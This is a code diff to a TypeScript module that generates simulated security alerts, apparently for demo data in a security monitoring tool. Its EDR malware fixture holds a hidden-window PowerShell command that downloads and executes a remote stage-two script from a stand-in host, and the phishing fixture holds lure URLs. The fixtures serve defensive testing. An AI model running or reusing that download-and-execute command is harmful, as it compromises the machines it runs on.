@@ -7,14 +7,39 @@ export interface SimulatedAlert {
   payload: JsonObject;
 }
 
-/** Documentation-range addresses (RFC 5737) so demo data never names a real party. */
-const externalIp = () =>
-  `${['198.51.100', '203.0.113', '192.0.2'][randomInt(3)]}.${randomInt(2, 250)}`;
+/**
+ * The parties of the demo stories. Addresses are documentation ranges (RFC 5737) and the
+ * names made up, so demo data never names a real party, yet every one is a valid public
+ * indicator the extractor keeps. The attackers' indicators are on the mock provider's demo
+ * threat list (enrichment/providers/demo-threat-list.ts); the victims' are not.
+ */
+export const SIM_INDICATORS = {
+  portScanner: '198.51.100.23',
+  ec2PublicIp: '192.0.2.10',
+  vpnAttacker: '203.0.113.77',
+  travelUser: 'j.doe@northwind-traders.com',
+  travelHomeIp: '198.51.100.77',
+  travelForeignIp: '203.0.113.199',
+  malwareSha256: '9f2c4d8e1b7a6350c1e8f4a2d9b3c7e5f0a1b2c3d4e5f60718293a4b5c6d7e8f',
+  malwareMd5: '5d41a2f7c9e3b8d06f1a4c2e9b7d3f58',
+  stagerDomain: 'cdn-update-check.net',
+  stagerUrl: 'http://cdn-update-check.net/stage2.ps1',
+  phishSender: 'billing@paypa1-secure-billing.com',
+  phishDomain: 'paypa1-secure-billing.com',
+  phishUrl: 'https://paypa1-secure-billing.com/login?session=8812',
+  phishRelayIp: '192.0.2.145',
+  phishAttachmentSha256: 'b4e1f07a9c2d3e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b',
+  phishRecipient: 'finance.team@northwind-traders.com',
+} as const;
+
+const sim = SIM_INDICATORS;
 const hex = (bytes: number) => randomBytes(bytes).toString('hex');
 const now = () => new Date().toISOString();
+/** As a mail gateway reports a link: `hxxps://host[.]com/...`. */
+const defang = (url: string) => url.replace(/^http/, 'hxxp').replace(/\.(?=[a-z]+\/)/, '[.]');
 
 function guarddutyPortscan(): SimulatedAlert[] {
-  const remote = externalIp();
+  const remote = sim.portScanner;
   return [
     {
       connector: 'guardduty',
@@ -33,7 +58,11 @@ function guarddutyPortscan(): SimulatedAlert[] {
             instanceId: `i-${hex(8)}`,
             instanceType: 't3.medium',
             networkInterfaces: [
-              { privateIpAddress: '10.0.1.25', publicIp: '54.0.0.10', subnetId: 'subnet-0a1b2c3d' },
+              {
+                privateIpAddress: '10.0.1.25',
+                publicIp: sim.ec2PublicIp,
+                subnetId: 'subnet-0a1b2c3d',
+              },
             ],
             tags: [{ key: 'Name', value: 'payments-api-1' }],
           },
@@ -49,7 +78,7 @@ function guarddutyPortscan(): SimulatedAlert[] {
                   localPortDetails: { port: 22, portName: 'SSH' },
                   remoteIpDetails: {
                     ipAddressV4: remote,
-                    organization: { asnOrg: 'Example Hosting', isp: 'Example Hosting' },
+                    organization: { asnOrg: 'Bulletproof VPS Ltd', isp: 'Bulletproof VPS Ltd' },
                     country: { countryName: 'Netherlands' },
                   },
                 },
@@ -72,7 +101,7 @@ function guarddutyPortscan(): SimulatedAlert[] {
 }
 
 function o365ImpossibleTravel(): SimulatedAlert[] {
-  const user = `j.doe${randomInt(10, 99)}@contoso.example`;
+  const user = sim.travelUser;
   return [
     {
       connector: 'generic',
@@ -92,13 +121,13 @@ function o365ImpossibleTravel(): SimulatedAlert[] {
           {
             userPrincipalName: user,
             accountName: user.split('@')[0],
-            logonIp: externalIp(),
+            logonIp: sim.travelForeignIp,
             logonLocation: 'Lagos, NG',
           },
           {
             userPrincipalName: user,
             accountName: user.split('@')[0],
-            logonIp: '198.51.100.77',
+            logonIp: sim.travelHomeIp,
             logonLocation: 'Amsterdam, NL',
           },
         ],
@@ -108,7 +137,6 @@ function o365ImpossibleTravel(): SimulatedAlert[] {
 }
 
 function edrMalware(): SimulatedAlert[] {
-  const sha256 = hex(32);
   return [
     {
       connector: 'generic',
@@ -133,10 +161,9 @@ function edrMalware(): SimulatedAlert[] {
           LocalIP: '10.20.30.44',
           FileName: 'invoice_viewer.exe',
           FilePath: '\\\\Device\\\\HarddiskVolume3\\\\Users\\\\a.smith\\\\Downloads\\\\',
-          SHA256String: sha256,
-          MD5String: hex(16),
-          CommandLine:
-            'powershell -nop -w hidden -c "iwr http://malicious-updates.example/stage2.ps1 | iex"',
+          SHA256String: sim.malwareSha256,
+          MD5String: sim.malwareMd5,
+          CommandLine: `powershell -nop -w hidden -c "iwr ${sim.stagerUrl} | iex"`,
           AgentId: hex(16),
           CompositeId: `${hex(16)}:ind:${hex(16)}`,
           FalconHostLink: `https://falcon.crowdstrike.com/activity-v2/detections/${hex(16)}`,
@@ -147,7 +174,7 @@ function edrMalware(): SimulatedAlert[] {
 }
 
 function vpnBruteforce(): SimulatedAlert[] {
-  const attacker = externalIp();
+  const attacker = sim.vpnAttacker;
   return Array.from({ length: 5 }, (_, attempt) => ({
     connector: 'wazuh',
     source: 'wazuh',
@@ -184,14 +211,13 @@ function phishing(): SimulatedAlert[] {
         title: 'User-reported phishing email',
         severity: 'high',
         timestamp: now(),
-        recipient: 'finance.team@contoso.example',
-        sender: 'billing@paypa1-secure.example',
+        recipient: sim.phishRecipient,
+        sender: sim.phishSender,
         subject: 'Action required: invoice overdue',
-        description:
-          'Email asks the user to log in at hxxps://paypa1-secure[.]example/login and opens an attachment.',
-        urls: ['hxxps://paypa1-secure[.]example/login?session=8812'],
-        attachments: [{ filename: 'invoice.pdf.exe', sha256: hex(32) }],
-        sender_ip: externalIp(),
+        description: `Email asks the user to log in at ${defang(sim.phishUrl)} and to open an attachment.`,
+        urls: [defang(sim.phishUrl)],
+        attachments: [{ filename: 'invoice.pdf.exe', sha256: sim.phishAttachmentSha256 }],
+        sender_ip: sim.phishRelayIp,
       },
     },
   ];
